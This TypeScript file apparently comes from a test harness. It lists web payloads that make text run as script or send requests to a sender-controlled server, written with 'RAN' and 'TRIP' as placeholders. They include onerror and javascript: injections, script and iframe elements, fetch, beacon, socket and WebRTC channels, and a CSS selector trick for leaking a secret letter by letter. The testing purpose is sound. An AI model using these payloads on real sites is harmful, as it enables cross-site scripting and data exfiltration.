/**
 * Ways for text from somewhere to become a script, or a message to its sender. `RAN` is a script that says so; `TRIP` an address
 * of a server of the sender; both are put in for each attempt. What is done with the text is in `attempt.ts`.
 */
export interface Payload {
  readonly id: string;
  readonly sink: Sink;
  readonly text: string;
}

const markupSinks = [
  'innerHTML',
  'outerHTML',
  'insertAdjacentHTML',
  'fragment',
  'template',
  'frame-write',
  'srcdoc',
  'parser',
] as const;
const otherSinks = [
  'element',
  'script-text',
  'eval',
  'indirect-eval',
  'function',
  'async-function',
  'timeout',
  'interval',
  'handler',
  'import',
  'worker',
  'blob-worker',
  'shared-worker',
  'service-worker',
  'worklet',
  'wasm',
  'fetch',
  'xhr',
  'beacon',
  'socket',
  'event-source',
  'transport',
  'image',
  'font',
  'sheet',
  'rtc',
  'click',
  'submit',
] as const;
type Sink = (typeof markupSinks)[number] | (typeof otherSinks)[number];

/** All of them run where they are only written into a page; a bare <script> does not. */
const markups: readonly string[] = [
  '<img src="data:," onerror="RAN">',
  '<img src="TRIP">',
  '<svg><image href="TRIP" width="9" height="9"/></svg>',
  '<iframe srcdoc="<script>RAN</script>"></iframe>',
  '<iframe src="javascript:RAN"></iframe>',
  '<details open ontoggle="RAN"><summary>x</summary></details>',
  '<video><source src="data:," onerror="RAN"></video>',
  '<style>@import "TRIP";</style>',
  '<link rel="stylesheet" href="TRIP">',
  '<input type="image" src="TRIP" alt="">',
];

/** An element by hand, past all that reads markup: its name, its attributes, its text. */
const element = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): string =>
  JSON.stringify({ tag, attributes, text });

const elements: readonly string[] = [
  element('script', {}, 'RAN'),
  element('script', { type: 'module' }, 'RAN'),
  element('script', { src: 'TRIP' }),
  element('script', { src: 'data:text/javascript,RAN' }),
  element('script', { type: 'module', src: 'TRIP' }),
  element('img', { src: 'data:,', onerror: 'RAN' }),
  element('img', { srcset: 'TRIP 1x', src: 'data:,' }),
  element('img', { src: 'TRIP', loading: 'eager', referrerpolicy: 'unsafe-url' }),
  element('body', { onload: 'RAN', background: 'TRIP' }),
  element('svg:svg', { onload: 'RAN' }),
  element('svg:image', { href: 'TRIP', width: '9', height: '9' }),
  element('svg:use', { href: 'TRIP#a' }),
  element('svg:feImage', { href: 'TRIP' }),
  element('input', { type: 'image', src: 'TRIP' }),
  element('input', { autofocus: '', onfocus: 'RAN' }),
  element('video', { src: 'TRIP', preload: 'auto', onerror: 'RAN' }),
  element('video', { poster: 'TRIP' }),
  element('audio', { src: 'TRIP', preload: 'auto' }),
  element('object', { data: 'TRIP' }),
  element('object', { data: 'data:text/html,<script>RAN</script>' }),
  element('embed', { src: 'TRIP' }),
  element('iframe', { src: 'TRIP' }),
  element('iframe', { src: 'data:text/html,<script>RAN</script>' }),
  element('iframe', { src: 'javascript:RAN' }),
  element('link', { rel: 'stylesheet', href: 'TRIP' }),
  element('link', { rel: 'preload', as: 'script', href: 'TRIP' }),
  element('link', { rel: 'preload', as: 'image', href: 'TRIP' }),
  element('link', { rel: 'prefetch', href: 'TRIP' }),
  element('link', { rel: 'modulepreload', href: 'TRIP' }),
  element('link', { rel: 'icon', href: 'TRIP' }),
  element('link', { rel: 'manifest', href: 'TRIP' }),
  element('link', { rel: 'preconnect', href: 'TRIP' }),
  element('link', { rel: 'prerender', href: 'TRIP' }),
  element('meta', { 'http-equiv': 'refresh', content: '0;url=TRIP' }),
  element('meta', { 'http-equiv': 'refresh', content: '0;url=javascript:RAN' }),
  element('base', { href: 'TRIP' }),
  element('style', {}, '@import url("TRIP");'),
  element('style', {}, 'html { --x: 1; border-image: url("TRIP") }'),
  element('style', {}, '@font-face { font-family: a; src: url("TRIP") } html { font-family: a, sans-serif }'),
  // One letter of a secret at a time: what stands in an attribute chooses the address.
  element('style', {}, 'html[lang^="e"], html[lang^="n"], html { cursor: url("TRIP"), auto }'),
  element('div', { style: 'background: url("TRIP")' }),
  element('div', {
    style: 'width: 9px; height: 9px; animation: x 1ms',
    onanimationend: 'RAN',
    onwheel: 'RAN',
  }),
  element('table', { background: 'TRIP' }),
];

const scripts: readonly (readonly [Sink, string])[] = [
  ['script-text', 'RAN'],
  ['eval', 'RAN'],
  ['indirect-eval', 'RAN'],
  ['function', 'RAN'],
  ['async-function', 'RAN'],
  ['timeout', 'RAN'],
  ['interval', 'RAN'],
  ['handler', 'RAN'],
  ['import', 'TRIP'],
  ['import', 'data:text/javascript,RAN'],
  ['worker', 'TRIP'],
  ['worker', 'data:text/javascript,TELL'],
  ['blob-worker', 'TELL'],
  ['shared-worker', 'data:text/javascript,TELL'],
  ['service-worker', 'TRIP'],
  ['worklet', 'TRIP'],
  ['wasm', ''],
  ['fetch', 'TRIP'],
  ['xhr', 'TRIP'],
  ['beacon', 'TRIP'],
  ['socket', 'TRIP'],
  ['event-source', 'TRIP'],
  ['transport', 'TRIP'],
  ['image', 'TRIP'],
  ['font', 'TRIP'],
  ['sheet', '@import "TRIP";'],
  ['sheet', 'html { list-style-image: url("TRIP") }'],
  ['rtc', 'stun'],
  ['rtc', 'turn'],
  ['click', 'javascript:RAN'],
  ['click', 'TRIP'],
  ['submit', 'javascript:RAN'],
  ['submit', 'TRIP'],
];

export const payloads: readonly Payload[] = [
  ...markupSinks.flatMap((sink) => markups.map((text) => ({ sink, text }))),
  ...elements.map((text) => ({ sink: 'element' as const, text })),
  ...scripts.map(([sink, text]) => ({ sink, text })),
].map((payload, at) => ({ id: `p${at}`, ...payload }));
